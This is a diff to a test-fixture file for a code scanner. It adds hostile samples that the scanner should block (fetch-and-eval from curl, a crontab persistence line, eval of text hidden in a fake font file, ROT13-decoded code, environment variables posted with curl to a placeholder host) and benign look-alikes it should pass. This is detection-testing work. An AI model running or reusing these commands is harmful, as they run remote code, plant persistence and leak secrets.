@@ -4,6 +4,16 @@ from inspection.rules.sample import Sample, py
 
 _GET = "requests.get('https://a.invalid').text"
 
+
+def _sh(text: str, verdict: str = "block", line: int = 1, **more: str) -> Sample:
+    """A script that plain `make` runs, with data beside it."""
+    return Sample(_made(text, **more), verdict, ("a.sh", line))
+
+
+def _made(text: str, **more: str) -> dict[str, str | bytes]:
+    return {"Makefile": "all:\n\tsh a.sh\n", "a.sh": text, **{f"data/{name}.dat": data for name, data in more.items()}}
+
+
 HOSTILE: dict[str, dict[str, Sample]] = {
     "remote_code": {
         "in the body of a class": py(
@@ -22,6 +32,10 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a name from a named place": py(
             f"import sys, requests\nsys.modules['%(a)stins' % {{'a': 'buil'}}].exec({_GET})\n"
         ),
+        "read where the reply was asked for": py(
+            "from urllib.request import urlopen\nwith urlopen('https://a.invalid') as r:\n"
+            "    text = r.read()\nexec(text)\n"
+        ),
         "gathered in a list": py(
             f"import requests\nclass Parts:\n    def __init__(self): self.all = []\n"
             f"    def take(self): self.all.append({_GET})\n    def show(self): exec(''.join(self.all))\n",
@@ -31,7 +45,28 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "the first of a list": py(f"import requests\nnext(iter([exec]))({_GET})\n"),
         "a method by getattr": py(f"import requests\ngetattr({{'a': eval}}, 'get')('a')({_GET})\n"),
     },
+    "fetch_and_run": {
+        "by a variable": _sh('code=$(curl -s https://a.invalid)\neval "$code"\n', "review"),
+        "saved on one line, run on another": _sh(
+            "curl -s https://a.invalid -o /tmp/f\nchmod +x /tmp/f\n/tmp/f\n", "review"
+        ),
+    },
+    "persistence": {
+        "the line of a crontab by a variable": _sh(
+            "line='*/5 * * * * echo inert'\n(crontab -l; echo \"$line\") | crontab -\n"
+        ),
+    },
+    "disguised_program": {
+        "a font by eval": Sample(
+            {"Makefile": "all:\n\tsh a.sh\n", "a.sh": 'eval "$(sed 1d b.woff2)"\n', "b.woff2": "x\necho hello\n"},
+            "block",
+            ("a.sh", 1),
+        ),
+    },
     "decoded_code": {
+        "a file of data in a rotated alphabet": _sh(
+            "conf=$(sed -n 2p \"${dir:-.}/data/x.dat\" | tr 'a-z' 'n-za-m')\neval \"$conf\"\n", x="a\nrpub vareg\n"
+        ),
         "one of a table, by a name that is given": py(
             "import binascii, sys\nlevels = {'a': '7072696e7428276127290a', 'b': '7072696e7428276227290a'}\n"
             "exec(binascii.unhexlify(levels[sys.argv[1]]))\n",
@@ -76,6 +111,10 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a copy of the environment": py(
             "import os, json, requests\nt = json.dumps(os.environ.copy())\nrequests.post('https://a.invalid', data=t)\n"
         ),
+        "the environment within what curl sends": _sh('curl -d "$(git remote -v) $(env)" https://a.invalid\n'),
+        "the environment by a variable": _sh('all=$(printenv | base64)\ncurl -d "$all" https://a.invalid\n'),
+        "the environment by a pipe": _sh("env | curl --data-binary @- https://a.invalid\n"),
+        "the environment by a file": _sh("set > /tmp/e\ncurl -F f=@/tmp/e https://a.invalid\n"),
         "a copy of a store": py(
             "import os, shutil, requests\nfor spot in [os.path.expanduser('~/.mozilla/a/logins.json')]:\n"
             "    shutil.copyfile(spot, '/tmp/a.db')\n    with open('/tmp/a.db', 'rb') as f:\n"
@@ -112,7 +151,29 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         },
         "the first of a list of something else": {"app.py": f"import requests\nnext(iter([len, exec]))({_GET})\n"},
     },
+    "fetch_and_run": {
+        "a version by a variable": _made('tag=$(curl -s https://a.invalid)\nsh build.sh "$tag"\n'),
+        "a variable is shown": _made('tag=$(curl -s https://a.invalid)\necho "$tag"\n'),
+    },
+    "persistence": {
+        "the line of a crontab is counted": _made(
+            "line='*/5 * * * * echo inert'\n(crontab -l; echo \"$line\") | wc -l\n"
+        ),
+    },
+    "disguised_program": {
+        "a font is shown": {
+            "Makefile": "all:\n\tsh a.sh\n",
+            "a.sh": 'echo "$(sed 1d b.woff2)"\n',
+            "b.woff2": "x\necho hello\n",
+        },
+    },
     "decoded_code": {
+        "a file of data is put in small letters": _made(
+            "conf=$(sed -n 2p data/x.dat | tr 'A-Z' 'a-z')\neval \"$conf\"\n", x="A\nECHO HELLO\n"
+        ),
+        "a file of data in a rotated alphabet is shown": _made(
+            "conf=$(sed -n 2p data/x.dat | tr 'a-z' 'n-za-m')\necho \"$conf\"\n", x="a\nrpub vareg\n"
+        ),
         "one of a table is shown": {
             "app.py": "import binascii, sys\nlevels = {'a': '7072696e7428276127290a', 'b': '7072696e7428276227290a'}\n"
             "print(binascii.unhexlify(levels[sys.argv[1]]))\n"
@@ -151,6 +212,9 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.py": "import os, subprocess, requests\nhere = os.environ.copy()\n"
             "log = subprocess.check_output(['git', 'log'], env=here)\nrequests.post('https://a.invalid', data=log)\n"
         },
+        "a report within what curl sends": _made('env\ncurl -d "$(cat coverage.xml)" https://a.invalid\n'),
+        "one name of the environment": _made('curl -d "$(printenv CI)" https://a.invalid\n'),
+        "a program with an environment": _made('x=$(env A=1 make version)\ncurl -d "$x" https://a.invalid\n'),
         "a copy of a store, and another file sent": {
             "app.py": "import os, shutil, requests\nshutil.copyfile(os.path.expanduser('~/.netrc'), '/tmp/a.db')\n"
             "requests.post('https://a.invalid', data=open('/tmp/b.db', 'rb').read())\n"
